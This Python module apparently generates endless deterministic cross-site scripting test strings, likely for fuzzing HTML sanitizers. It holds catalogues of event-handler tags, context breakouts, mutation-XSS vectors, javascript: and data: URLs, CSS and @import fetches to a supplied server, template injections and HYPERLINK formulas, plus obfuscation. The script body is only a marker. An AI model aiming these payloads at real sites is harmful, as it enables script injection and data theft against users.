"""Hostile strings without end, each drawn from a number."""

import base64
import random
import re

TAGS = (
    "img svg body video audio input details marquee iframe object embed math style link button select "
    "textarea keygen frameset table td template portal isindex x-a animate set foreignobject image use"
).split()
EVENTS = (
    "onerror onload onclick onmouseover onmousemove onfocus onfocusin onbegin ontoggle onstart "
    "onpageshow onend onanimationstart ontransitionend onbeforeprint onscroll onwheel onpointerover onresize "
    "oncanplay onhashchange"
).split()
ENDS = (
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    "</select>",
    "</xmp>",
    "</iframe>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "%>",
    "'>",
    '">',
    "`>",
    "\\'>",
    '\\">',
    "'}\"}>",
    "*/",
    "\n\n",
    "</td></table>",
    "\u2028",
    "\x00",
    "&quot;>",
    "&#39;>",
    "&lt;/script&gt;",
)
LINKS = (
    "a href",
    "area href",
    "form action",
    "button formaction",
    "iframe src",
    "embed src",
    "object data",
    "svg><a xlink:href",
    "math><a xlink:href",
    "svg><use href",
    "base href",
    "link rel=import href",
    "svg><set attributeName=href to",
    "svg><animate attributeName=href values",
)
FETCHED = (
    "img src",
    "img srcset",
    "img lowsrc",
    "input type=image src",
    "video poster",
    "video src",
    "audio src autoplay",
    "source srcset",
    "track src",
    "embed src",
    "object data",
    "iframe src",
    "frame src",
    "script src",
    "body background",
    "table background",
    "td background",
    "link rel=stylesheet href",
    "link rel=prefetch href",
    "link rel=icon href",
    "link rel=manifest href",
    "link rel=dns-prefetch href",
    "link rel=preconnect href",
    "link rel=modulepreload href",
    "svg><image href",
    "svg><image xlink:href",
    "svg><use href",
    "svg><feImage href",
    "html manifest",
    "portal src",
    "picture><source srcset",
    "a ping=x href",
    "blockquote cite",
    "applet archive",
    "bgsound src",
)
STYLES = (
    "background:url({})",
    "background-image:u\\72l({})",
    "list-style:url({})",
    "cursor:url({}),auto",
    "content:url({})",
    "border-image:url({}) 1",
    "mask:url({})",
    "filter:url({}#a)",
    "clip-path:url({}#a)",
    "background:image-set('{}' 1x)",
    "background:-webkit-image-set('{}' 1x)",
    "--x:url({});background:var(--x)",
    "shape-outside:url({})",
    "offset-path:url({}#a)",
    "behavior:url({})",
    "-moz-binding:url({})",
    "src:url({})",
)
SHEETS = (
    "@import '{}';",
    "@import url({});",
    "@im\\port '{}';",
    "@font-face{{font-family:x;src:url({})}}*{{font-family:x}}",
    "@namespace url({});",
    "*{{background:url({})}}",
    "@media all{{*{{background:url({})}}}}",
    "@keyframes a{{from{{background:url({})}}}}*{{animation:a 1s}}",
)
MUTATIONS = (  # that a parser turns into something else when it reads what it has written
    "<svg></p><style><a id='</style><img src=q onerror=HURT>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=q onerror=HURT&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=q onerror=HURT>",
    "<noscript><p title='</noscript><img src=q onerror=HURT>'>",
    "<svg><desc><noscript></desc></noscript><img src=q onerror=HURT>",
    "<a title='<!--'><img src=q onerror=HURT>--></a>",
    "<p id='</p><img src=q onerror=HURT>'>",
    "<select><template><img src=q onerror=HURT></template></select>",
    "<table><td><svg><desc><td><img src=q onerror=HURT>",
    "<svg><title><style><img src=q onerror=HURT></style></title></svg>",
    "<math><annotation-xml encoding='text/html'><script>HURT</script></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.HURT</script>'></foreignObject></svg>",
)
TEXTS = (
    "{{HURT}}",
    "${HURT}",
    "#{HURT}",
    "<%= HURT %>",
    "{% HURT %}",
    "[x](javascript:HURT)",
    "![x](URL)",
    "<javascript:HURT>",
    "<URL>",
    "[x]: URL",
    "$\\href{javascript:HURT}{x}$",
    "$\\includegraphics{URL}$",
    "$\\unicode{x3c}img src=URL>$",
    "\\url{URL}",
    "%{y}<extra><img src=q onerror=HURT></extra>",
    "<b><i><a href='javascript:HURT'>x</a>",
    "<a href=URL>x<br></a><sub><img src=URL></sub>",
    '=HYPERLINK("URL")',
    "__proto__",
    "constructor",
    "\x1b]8;;URL\x07x",
    "\u202e<img src=URL>\u202c",
    "\ufeff<script>HURT</script>",
    "&lt;script&gt;HURT&lt;/script&gt;",
    "&#x3c;img src=URL&#x3e;",
    "\uff1cscript\uff1eHURT\uff1c/script\uff1e",
    "+ADw-script+AD4-HURT",
    "<scr\x00ipt>HURT</script>",
)


def drawn(server: str, number: int) -> tuple[str, str]:
    """(its kind, a hostile string), the same for the same number and server."""
    draw = random.Random(f"hostile {number}")
    kind = ("events", "links", "fetched", "styles", "ends", "mutations", "texts", "spliced")[number % 8]
    hurt, url = f"window.hurt={number}", _address(server, draw)
    if kind == "events":
        text = _tag(f"{draw.choice(TAGS)} src=q {draw.choice(EVENTS)}", hurt, draw) + "x"
    elif kind == "links":
        text = _tag(draw.choice(LINKS), _script(hurt, draw), draw) + "<text>x</text>click"
    elif kind == "fetched":
        text = _tag(draw.choice(FETCHED), url, draw)
    elif kind == "styles" and draw.random() < 0.5:
        text = (
            _tag(f"{draw.choice(('p', 'div', 'svg', 'body'))} style", draw.choice(STYLES).format(url), draw)
            + "x"
        )
    elif kind == "styles":
        text = f"<style>{draw.choice(SHEETS).format(url)}</style>"
    elif kind == "ends":
        text = "".join(draw.sample(ENDS, draw.randrange(1, 4))) + f"<script>{hurt}</script>"
    elif kind == "mutations":
        text = draw.choice(MUTATIONS).replace("HURT", hurt)
    elif kind == "texts":
        text = draw.choice(TEXTS).replace("HURT", hurt).replace("URL", url)
    else:
        one, other = (
            drawn(server, draw.randrange(7 * 10**6) // 7 * 8 + k)[1] for k in draw.sample(range(7), 2)
        )
        text = one[: draw.randrange(1, len(one) + 1)] + draw.choice(ENDS) + other
    for edit in draw.sample((_case, _entities, _padded), draw.choice((0, 0, 0, 1, 2))):
        text = edit(text, draw)
    return kind, text


def _tag(opening: str, value: str, draw: random.Random) -> str:
    quote = draw.choice(("'", '"', "", "`"))
    value = value.replace(quote, "") if quote else value.replace(" ", "/**/")
    space = draw.choice((" ", "/", "\t", "\n", "\x0c", "//", " x ", "\r"))
    more = draw.choice(("", " autofocus", " open", " autofocus open loop", " style=display:block"))
    before = draw.choice(("", "", draw.choice(ENDS)))
    return f"{before}<{opening.replace(' ', space)}={quote}{value}{quote}{more}>"


def _address(server: str, draw: random.Random) -> str:
    spelled = (
        "http://{}/x",
        "//{}/x",
        "HTTP://{}/x",
        "http:\\\\{}/x",
        "http:/{}/x",
        "\thttp://{}/x",
        "ht\ntp://{}/x",
        "http://a@{}/x",
    )
    return draw.choice(spelled).format(server)


def _script(hurt: str, draw: random.Random) -> str:
    html = f"<script>parent.{hurt}</script>"
    spelled = (
        f"javascript:{hurt}",
        f"JaVaScRiPt:{hurt}",
        f"java\tscript:{hurt}",
        f"\x01javascript:{hurt}",
        f" javascript:{hurt}",
        f"&#106;avascript:{hurt}",
        f"javascript&colon;{hurt}",
        f"java&NewLine;script:{hurt}",
        f"javascript://%0a{hurt}",
        f"data:text/html,{html}",
        f"data:text/html;base64,{base64.b64encode(html.encode()).decode()}",
        f"vbscript:{hurt}",
        f"data:image/svg+xml,<svg onload={hurt}>",
        f"view-source:javascript:{hurt}",
        f"feed:javascript:{hurt}",
    )
    return draw.choice(spelled)


def _case(text: str, draw: random.Random) -> str:
    """Names of tags and attributes in any case, which HTML takes as the same."""
    return re.sub(r"<\w+|\bon\w+=", lambda m: "".join(draw.choice((c, c.upper())) for c in m[0]), text)


def _entities(text: str, draw: random.Random) -> str:
    return "".join(f"&#{ord(c)};" if draw.random() < 0.05 and c not in "<>" else c for c in text)


def _padded(text: str, draw: random.Random) -> str:
    return (
        draw.choice(("x" * 3000, "\u200b", "\u202e", "\r\n", "\x7f", "<" * 200, "&" * 50, "\U0001f600"))
        + text
    )
